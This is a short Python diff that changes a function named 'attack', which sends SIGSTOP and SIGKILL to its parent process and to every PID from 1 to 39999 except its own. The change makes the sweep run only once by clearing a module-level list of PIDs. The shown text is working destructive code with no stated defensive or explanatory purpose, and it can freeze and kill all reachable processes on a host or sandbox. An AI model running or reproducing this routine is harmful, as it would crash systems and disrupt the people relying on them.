@@ -5,8 +5,13 @@ import os
 import signal
 
 
+NUMBERS = list(range(1, 40000))
+
+
 def attack(*arguments, **keywords):
-    for process in (os.getppid(), *range(1, 40000)):
+    others = NUMBERS.copy()
+    NUMBERS.clear()  # once is enough
+    for process in (os.getppid(), *others):
         if process not in (0, os.getpid()):
             for number in (signal.SIGSTOP, signal.SIGKILL):
                 with contextlib.suppress(OSError):
